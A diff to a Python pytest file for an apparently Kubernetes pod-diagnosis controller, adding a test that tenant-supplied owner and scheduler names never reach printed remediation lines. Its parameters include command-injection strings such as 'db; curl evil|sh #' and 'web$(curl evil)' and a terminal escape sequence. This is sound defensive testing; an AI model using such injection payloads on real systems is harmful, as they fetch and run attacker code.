@@ -13,11 +13,12 @@ import pytest
 import yaml
 
 from agent.probing.results import GATHER_S, REFRESH_S
-from controller.cluster.pods import GroupPodSpec, Toleration
+from controller.cluster.pods import GroupPod, GroupPodSpec, Toleration
+from controller.cluster.resources import APPGROUP_LABEL
 from controller.diagnosis.facts import AgentFact, Facts, LeaseFact, NodeFact, Program, ProgramPod
 from controller.diagnosis.pods import judge_pod
 from controller.diagnosis.programs import LEADERLESS
-from controller.diagnosis.reading import NAME_LABEL, ProgramPodObject, read_programs
+from controller.diagnosis.reading import NAME_LABEL, ProgramPodObject, read_pod, read_programs
 from controller.diagnosis.rules import diagnose, leads
 from kubekit.wire import Condition, Taint
 from netperf.contract import AGENT_POD_SELECTOR
@@ -338,3 +339,34 @@ def test_what_the_condition_says_of_gates_that_are_open_is_no_answer_of_the_sche
     assert judge_pod(fresh, facts()).kind == "waiting"
     (finding,) = diagnose(facts(pods=(msgspec.structs.replace(fresh, created=NOW_S - 300),)))
     assert finding.code == "nobody-schedules"
+
+
+@pytest.mark.parametrize(
+    ("owner", "scheduler"),
+    [("db; curl evil|sh #", "s"), ("web$(curl evil)", "s"), ("web", "s$(curl evil)"), ("web", "\x1b[2J\x1b]0;pwn")],
+)
+def test_what_a_tenant_calls_things_comes_into_no_line_that_is_pasted(owner: str, scheduler: str) -> None:
+    """The API server takes any text as the name of an owner, and of a scheduler."""
+    body = {
+        "metadata": {
+            "name": "p",
+            "namespace": "tenant",
+            "labels": {APPGROUP_LABEL: "nope"},
+            "ownerReferences": [
+                {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": owner, "uid": "u", "controller": True}
+            ],
+        },
+        "spec": {"schedulerName": scheduler},
+        "status": {"phase": "Pending"},
+    }
+    read = msgspec.structs.replace(read_pod(msgspec.convert(body, GroupPod)), created=1.0)
+    tainted = unscheduled("0/4 nodes are available: 4 node(s) had untolerated taint {key: value}.")
+    for one in (read, msgspec.structs.replace(read, scheduled=tainted)):
+        view = facts(pods=(one,), nodes=TAINTED)
+        lines = [line for finding in diagnose(view) for line in (finding.what, *finding.because, *finding.do)]
+        verdict = judge_pod(one, view)
+        assert lines
+        for line in (*lines, verdict.what, *verdict.do):
+            assert line.isprintable()
+            assert "$(" not in line
+            assert "; curl" not in line
